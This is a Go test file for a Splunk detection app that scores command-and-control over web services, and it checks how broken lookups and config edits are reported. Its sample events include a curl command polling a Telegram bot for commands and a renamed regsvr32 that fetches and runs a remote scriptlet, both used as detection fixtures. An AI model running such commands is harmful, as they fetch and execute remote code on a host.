package score_test

// Broken configuration through the real t1102score and the emulator: a
// lookup or t1102.conf an admin edited, as a search sees it.

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/splunkd"
)

// configEvents are two detections whose scores depend on the lookups'
// optional-looking columns: curl asking a Telegram bot for commands
// (command_paths) and a renamed regsvr32 running a scriptlet from GitHub
// (original_file_name).
func configEvents() *splunkd.Table {
	return splunkd.TableOf([]string{"EventCode", "ProcessId", "Image", "OriginalFileName", "CommandLine", "ParentImage"}, [][]string{
		{"1", "8012", `C:\Windows\System32\curl.exe`, "curl.exe", `curl.exe -s -o %TEMP%\tg.json "https://api.telegram.org/bot123456:AAE-example/getUpdates"`, `C:\Windows\System32\cmd.exe`},
		{"1", "9001", `C:\Users\Public\upd.exe`, "REGSVR32.EXE", `upd.exe /s /n /u /i:https://raw.githubusercontent.com/e/r/main/a.sct scrobj.dll`, `C:\Windows\explorer.exe`},
	})
}

// appCopy lays out an app folder (lookups/, default/) from the source
// tree's files, each changed by edits (file name → change of its text).
func appCopy(t *testing.T, edits map[string]func(string) string) string {
	t.Helper()
	dir := t.TempDir()
	copyDir := func(from, to string) {
		entries, err := os.ReadDir(filepath.Join(repo, from))
		require.NoError(t, err)
		require.NoError(t, os.MkdirAll(filepath.Join(dir, to), 0o755))
		for _, e := range entries {
			if e.IsDir() || !(strings.HasSuffix(e.Name(), ".csv") || strings.HasSuffix(e.Name(), ".conf")) {
				continue
			}
			b, err := os.ReadFile(filepath.Join(repo, from, e.Name()))
			require.NoError(t, err)
			s := string(b)
			if edit, ok := edits[to+"/"+e.Name()]; ok {
				s = edit(s)
			}
			require.NoError(t, os.WriteFile(filepath.Join(dir, to, e.Name()), []byte(s), 0o644))
		}
	}
	copyDir("app/lookups", "lookups")
	copyDir("default", "default")
	for name, edit := range edits {
		if p := filepath.Join(dir, name); !fileExists(p) {
			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			require.NoError(t, os.WriteFile(p, []byte(edit("")), 0o644))
		}
	}
	return dir
}

func fileExists(p string) bool { _, err := os.Stat(p); return err == nil }

// withoutColumns removes columns from a CSV text.
func withoutColumns(cols ...string) func(string) string {
	return func(s string) string {
		recs, err := csv.NewReader(strings.NewReader(s)).ReadAll()
		if err != nil {
			panic(err)
		}
		drop := map[int]bool{}
		for i, h := range recs[0] {
			for _, c := range cols {
				if h == c {
					drop[i] = true
				}
			}
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		for _, r := range recs {
			var keep []string
			for i, f := range r {
				if !drop[i] {
					keep = append(keep, f)
				}
			}
			_ = w.Write(keep)
		}
		w.Flush()
		return b.String()
	}
}

func headerOnly(s string) string { h, _, _ := strings.Cut(s, "\n"); return h + "\n" }

// withLine inserts a line after line n (1 is the header).
func withLine(n int, line string) func(string) string {
	return func(s string) string {
		lines := strings.SplitAfter(s, "\n")
		return strings.Join(lines[:n], "") + line + "\n" + strings.Join(lines[n:], "")
	}
}

func appendText(text string) func(string) string { return func(s string) string { return s + text } }

// TestConfigThroughEmulator: a configuration that cannot be used is refused
// with its file and line; a bad row or setting is left out with an
// inspector WARN naming it and the real cause, and the rest still judges.
func TestConfigThroughEmulator(t *testing.T) {
	const telegram, regsvr32 = 70, 100 // the shipped configuration's scores
	tests := []struct {
		name, reason string
		edits        map[string]func(string) string
		fails        string   // the error text's part; empty: the search runs
		warns        []string // parts of the WARN messages, one each, in order
		risk         [2]int   // risk_score of the two events when the search runs
	}{
		{name: "shipped", reason: "the reference figures", risk: [2]int{telegram, regsvr32}},
		{name: "web services without raw_paths, command_paths", reason: "item 10: curl on Telegram fell from 70 to 45 without a word",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": withoutColumns("raw_paths", "command_paths")},
			fails: `t1102_webservices.csv:1: bad catalog: header has no column "raw_paths"`},
		{name: "web services header only", reason: "item 10: no service, no detection at all, without a word",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": headerOnly},
			fails: "t1102_webservices.csv: bad catalog: no usable row"},
		{name: "processes without original_file_name", reason: "item 10: renamed regsvr32 fell from 100 to 65 without a word",
			edits: map[string]func(string) string{"lookups/t1102_processes.csv": withoutColumns("original_file_name")},
			fails: `t1102_processes.csv:1: bad catalog: header has no column "original_file_name"`},
		{name: "web-service row short one column", reason: "item 12: the search failed (every hourly alert with it) and blamed the domain",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": withLine(1, "discord.gg,Discord,C&C,,,added by hand")},
			warns: []string{"WEBSERVICES:2: row skipped: 6 fields, the header has 7"}, risk: [2]int{telegram, regsvr32}},
		{name: "bad process row", reason: "item 12: one bad row, the other processes still judge",
			edits: map[string]func(string) string{"lookups/t1102_processes.csv": withLine(3, `C:\Windows\System32\certutil.exe,lolbin,certutil.exe,certutil`)},
			warns: []string{"PROCESSES:4: row skipped: name"}, risk: [2]int{telegram, regsvr32}},
		{name: "misspelt stanza in local", reason: "item 11: [rsik] set nothing and said nothing",
			edits: map[string]func(string) string{"local/t1102.conf": appendText("[rsik]\ncommand_endpoint = 0\n")},
			warns: []string{"local/t1102.conf:1: setting skipped: unknown stanza [rsik]"}, risk: [2]int{telegram, regsvr32}},
		{name: "unknown key in risk", reason: "item 11: a typo in [risk] stopped every search; now seen, and the detection runs",
			edits: map[string]func(string) string{"local/t1102.conf": appendText("[risk]\ncommand_endpiont = 0\n")},
			warns: []string{`local/t1102.conf:2: setting skipped: [risk] has no key "command_endpiont"`}, risk: [2]int{telegram, regsvr32}},
		{name: "many bad rows", reason: "item 12: ten WARNs and a count, not one per row",
			edits: map[string]func(string) string{"lookups/t1102_not_evidence.csv": appendText(strings.Repeat("not a domain,x\n", 12))},
			warns: append(repeat(10, "t1102_not_evidence.csv:"), "2 more rows or settings were skipped: | t1102score check_config=true lists them all"), risk: [2]int{telegram, regsvr32}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			res, err := splunkd.Run(context.Background(), splunkd.Search{
				Argv: []string{scoreBin, "-app-dir", appCopy(t, tt.edits)}, Input: configEvents(), Collect: true,
			})
			// Every process says them (the optimizer's probes too): each
			// text once here.
			var warns []string
			seen := map[string]bool{}
			for _, m := range res.Messages {
				if m.Level == "WARN" && !seen[m.Text] {
					seen[m.Text] = true
					warns = append(warns, m.Text)
				}
			}
			if tt.fails != "" {
				var ce *splunkd.CommandError
				require.ErrorAs(t, err, &ce, "the search must fail; scores %v", scores(res.Table))
				require.Contains(t, filepath.ToSlash(ce.Text), tt.fails)
				return
			}
			require.NoError(t, err, "%q", warns)
			require.Equal(t, tt.risk, scores(res.Table))
			require.Len(t, warns, len(tt.warns), "%q", warns)
			for i, w := range tt.warns {
				w = strings.NewReplacer("WEBSERVICES", "lookups/t1102_webservices.csv", "PROCESSES", "lookups/t1102_processes.csv").Replace(w)
				require.Contains(t, filepath.ToSlash(warns[i]), w)
			}
		})
	}
}

func repeat(n int, s string) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = s
	}
	return out
}

// TestCheckConfigThroughEmulator: | t1102score check_config=true, the
// configuration's state where an admin looks (the dashboard panel, the
// configuration check search): a row per row or setting left out, the
// refusal of a catalog that cannot be used, and a summary; never a failed
// search.
func TestCheckConfigThroughEmulator(t *testing.T) {
	tests := []struct {
		name, reason string
		edits        map[string]func(string) string
		args         []string
		want         []string // level|file|line|message, the message's start (file under the app folder)
	}{
		{name: "shipped", reason: "a summary of what is used, nothing wrong",
			want: []string{"INFO|APP|0|catalog in use: 33 web services (t1102_webservices.csv), 23 processes, 15 parents, 21 allowlist rules, 28 context rules, 5 not-evidence domains, 18 client rules; alert at risk 40; 0 rows or settings skipped"}},
		{name: "lots", reason: "catalog= picks the web-service lookup checked", args: []string{"catalog=lots"},
			want: []string{"INFO|APP|0|catalog in use: 189 web services (t1102_webservices_lots.csv)"}},
		{name: "a bad row", reason: "item 12: each row left out, with its line and cause",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": withLine(1, "discord.gg,Discord,C&C,,,added by hand")},
			want:  []string{"WARN|APP/lookups/t1102_webservices.csv|2|row skipped: 6 fields, the header has 7", "INFO|APP|0|catalog in use: 33 web services"}},
		{name: "refused", reason: "item 10: the refusal is a row an alert can fire on, not only a failed search",
			edits: map[string]func(string) string{"lookups/t1102_webservices.csv": headerOnly},
			want:  []string{"ERROR|APP/lookups/t1102_webservices.csv|0|the catalog is refused, every search with t1102score or t1102correlate fails: "}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			app := appCopy(t, tt.edits)
			res, err := splunkd.Run(context.Background(), splunkd.Search{
				Argv: []string{scoreBin, "-app-dir", app}, Args: append([]string{"check_config=true"}, tt.args...), Collect: true,
			})
			require.NoError(t, err)
			require.True(t, res.Config.Generating)
			var got []string
			for i := range res.Table.Rows {
				line := first(res.Table.Get(i, "line"))
				if line == "" {
					line = "0"
				}
				got = append(got, strings.Join([]string{first(res.Table.Get(i, "level")), filepath.ToSlash(first(res.Table.Get(i, "file"))), line, first(res.Table.Get(i, "message"))}, "|"))
			}
			require.Len(t, got, len(tt.want), "%q", got)
			for i, w := range tt.want {
				require.True(t, strings.HasPrefix(got[i], strings.ReplaceAll(w, "APP", filepath.ToSlash(app))), "row %d: %q, want %q", i, got[i], w)
			}
		})
	}
	t.Run("other arguments", func(t *testing.T) {
		_, err := splunkd.Run(context.Background(), splunkd.Search{Argv: scoreArgv, Args: []string{"check_config=true", "filter=true"}})
		var ce *splunkd.CommandError
		require.ErrorAs(t, err, &ce)
		require.Contains(t, ce.Text, "takes no argument but catalog=, not filter=")
	})
}

// scores are the two configEvents' risk_score (-1: no row).
func scores(tab *splunkd.Table) [2]int {
	out := [2]int{-1, -1}
	if tab == nil {
		return out
	}
	for i := range tab.Rows {
		n := -1
		if v := first(tab.Get(i, "risk_score")); v != "" {
			n = atoi(v)
		}
		switch first(tab.Get(i, "ProcessId")) {
		case "8012":
			out[0] = n
		case "9001":
			out[1] = n
		}
	}
	return out
}

func atoi(s string) int {
	n := 0
	for _, c := range s {
		if c < '0' || c > '9' {
			return -1
		}
		n = n*10 + int(c-'0')
	}
	return n
}
